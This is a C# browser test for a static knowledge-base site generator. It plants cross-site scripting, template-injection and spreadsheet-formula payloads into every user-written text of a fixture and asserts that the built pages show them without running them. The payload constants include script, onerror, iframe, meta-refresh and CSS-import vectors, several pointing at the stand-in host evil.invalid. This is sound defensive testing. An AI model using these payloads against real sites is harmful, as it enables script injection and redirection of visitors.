using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using XenModeKB.SiteTests.Harness;
using XenModeKB.SiteTests.Pages;

namespace XenModeKB.SiteTests.Builds;

/// <summary>
/// Every text that somebody may write holds what would run a script or ask another site, were it put anywhere as it is: names, titles, descriptions, cells,
/// labels, questions, sources, the words of the interface, and all that a page of Markdown takes. It is shown, and does nothing.
/// </summary>
public sealed partial class PayloadTests(RealSite real)
{
    private const string BasePath = "/inits/";

    /// <summary>Fits into the boxes of a flowchart.</summary>
    private const string Short = "\"><img src=x onerror=kbRan()>";

    /// <summary>Without braces, which mean something in the words of the interface.</summary>
    private const string Long =
        """
        "><img src=//evil.invalid/a onerror=kbRan()> '><svg onload=kbRan()> </script><script>kbRan()</script> </title><script src=//evil.invalid/b.js></script> --><iframe src=//evil.invalid/c></iframe>
        """ + " " +
        """
        ]]><style>@import url(//evil.invalid/d.css)</style> <base href=//evil.invalid/> <meta http-equiv=refresh content="0;url=//evil.invalid/e"> "onfocus=kbRan() autofocus x=" 'onmouseover=kbRan() x='
        """ + " " +
        """
        <math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=kbRan()&gt;"> javascript:kbRan() </textarea></noscript></template><script>kbRan()</script> &lt;script&gt;kbRan()
        """ + " " +
        """
        &lt;/script&gt; \u003cscript\u003ekbRan() @Html.Raw("x") =HYPERLINK("//evil.invalid/f") \n END:VEVENT
        """;

    private const string Braces = Long + " {{kbRan()}} ${kbRan()} }} @comment{";

    /// <summary>Elements that only a payload could have made.</summary>
    private const string Made =
        """
        () => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || (['src', 'href', 'action', 'content'].includes(a.name) && /^(javascript:|(https?:)?\/\/evil|0;url=\/\/evil)/i.test(a.value))))
          .map(e => 'made of a payload: ' + e.outerHTML.slice(0, 100))
          .concat([...document.querySelectorAll('script[type="application/ld+json"]')].flatMap(e => { try { JSON.parse(e.textContent); return []; } catch (x) { return ['no JSON: ' + x]; } }))
        """;

    private static readonly bool s_all = Environment.GetEnvironmentVariable("KB_CAMPAIGN") is not null;

    [Fact]
    public async Task What_people_write_is_shown_and_never_run()
    {
        using var folder = new TemporaryFolder();
        Write(folder.Path);
        var answer = await Programs.Kb("build", "--root", folder["root"], "--output", folder["output"], "--base-url", "https://example.org" + BasePath);
        Assert.True(answer.Exit == 0, answer.All);
        var site = Site.Read(folder["output"]);
        var problems = new Problems();
        foreach (var file in site.Files.Keys)
        {
            Parse(site, file, problems);
        }

        await using var server = await Server.Start(site, BasePath);
        await using var context = await real.Browser.Context(new());
        var tab = await OpenedPage.In(context, server);
        tab.Page.Dialog += (_, dialog) =>
        {
            problems.Add(tab.Page.Url, "opens a dialog");
            _ = dialog.DismissAsync();
        };
        foreach (var route in site.Pages.Where(route => s_all || IsSample(route)))
        {
            await tab.Open(server, route);
            problems.Add(route, tab.TakeProblems());
            problems.Add(route, await tab.Page.EvaluateAsync<string[]>(Made));
            if (!(await tab.Page.ContentAsync()).Contains("onerror=kbRan()", StringComparison.Ordinal))
            {
                problems.Add(route, "shows no payload");
            }
        }

        problems.AssertNone();
    }

    /// <summary>One page of each kind, and the one whose interface is made of payloads too.</summary>
    private static bool IsSample(string route) => Samples().IsMatch(route);

    /// <summary>Programs read these files: each must be what its name says.</summary>
    private static void Parse(Site site, string path, Problems problems)
    {
        try
        {
            switch (Path.GetExtension(path))
            {
                case ".json" or ".jsonld" or ".webmanifest":
                    JsonDocument.Parse(site.Files[path]).Dispose();
                    break;
                case ".xml" or ".svg" or ".atom":
                    XDocument.Parse(site.Text(path));
                    break;
                case ".csv":
                    problems.Add(path, Csv().Matches(site.Text(path)).Select(cell => $"a cell that a program for tables computes: {cell.Value}"));
                    break;
            }
        }
        catch (Exception problem) when (problem is JsonException or System.Xml.XmlException)
        {
            problems.Add(path, problem.Message);
        }
    }

    /// <summary>The fixture of three languages, a payload at the end of each of its texts.</summary>
    private static void Write(string folder)
    {
        var from = Path.Combine(Repository.Fixtures, "three-languages");
        foreach (var file in Directory.EnumerateFiles(from, "*", SearchOption.AllDirectories))
        {
            var path = Path.GetRelativePath(from, file).Replace('\\', '/');
            var target = Path.Combine(folder, "root", path);
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            File.WriteAllText(target, Spoil(path, File.ReadAllText(file)));
        }
    }

    private static string Spoil(string path, string text) => Path.GetExtension(path) switch
    {
        ".json" => JsonText().Replace(text, match => match.Groups[1].Value + Quoted(match.Groups[2].Value, Braces)),
        ".yml" when path.StartsWith("theme/", StringComparison.Ordinal) =>
            Word().Replace(text, match => match.Groups[1].Value + Quoted(match.Groups[2].Value, Long)),
        ".yml" => string.Join('\n', text.Split('\n').Select(line => Line(line, path.Contains("/flowcharts/", StringComparison.Ordinal) ? Short : Braces))),
        ".md" => Page(text),
        _ => text,
    };

    private static string Line(string line, string payload) => Address().IsMatch(line)
        ? line
        : YamlText().Replace(line, match => match.Groups[1].Value + Quoted(match.Groups[2].Value.Trim().Trim('"'), payload));

    private static string Page(string text)
    {
        var escaped = Mark().Replace(Braces, @"\$0");
        var head = FrontText().Replace(text, match => match.Groups[1].Value + Quoted(match.Groups[2].Value, Braces));
        return head + $"""

            ## Payloads {escaped} {"{#payloads}"}

            {escaped} [{escaped}](#payloads '{Mark().Replace(Long, @"\$0")}') **{escaped}** `{Braces}` [^1]

            [^1]: {escaped}

            | {escaped} | b |
            |---|---|
            | `{Braces.Replace("|", "", StringComparison.Ordinal)}` | {escaped} |

            > [!NOTE]
            > {escaped}

            ```js
            {Braces}
            ```

            - {escaped}

            """.Replace("\n            ", "\n", StringComparison.Ordinal);
    }

    private static string Quoted(string text, string payload) =>
        JsonSerializer.Serialize($"{text} {payload}", s_json);

    private static readonly JsonSerializerOptions s_json = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    [GeneratedRegex("(\"(?:en|pt-BR|ar)\": )\"((?![a-z-]+\")[^\"]*)\"")]
    private static partial Regex JsonText();

    [GeneratedRegex("^(\"[^\"]+\": )\"([^\"]*)\"$", RegexOptions.Multiline)]
    private static partial Regex Word();

    /// <summary>Texts in a language, and what the fixture says once for all of them.</summary>
    [GeneratedRegex("((?:\\b(?:en|pt-BR|ar)|^  title|literal|^licence\\.name): )(\"[^\"]*\"|[^\\s{,}\"][^,}\\n]*)")]
    private static partial Regex YamlText();

    /// <summary>Lines with segments of addresses.</summary>
    [GeneratedRegex("slug:|^  [a-z/]+: \\{pt-BR: [a-z-]+, ar: [a-z-]+\\}")]
    private static partial Regex Address();

    [GeneratedRegex("^((?:title|description): )(.+)$", RegexOptions.Multiline)]
    private static partial Regex FrontText();

    /// <summary>What Markdown lets a backslash stand before.</summary>
    [GeneratedRegex("[!-/:-@\\[-`{-~]")]
    private static partial Regex Mark();

    [GeneratedRegex("(?<=^|,)\"?[=+@][^,\\n]*", RegexOptions.Multiline)]
    private static partial Regex Csv();

    [GeneratedRegex("^en/$|^en/inits/$|^en/history/$|^en/data/inits/runit/$|^en/data/tables/overview/$|compare/|^en/references/$|^en/search/$|^en/.*use-runit|^ar/$|^404")]
    private static partial Regex Samples();
}
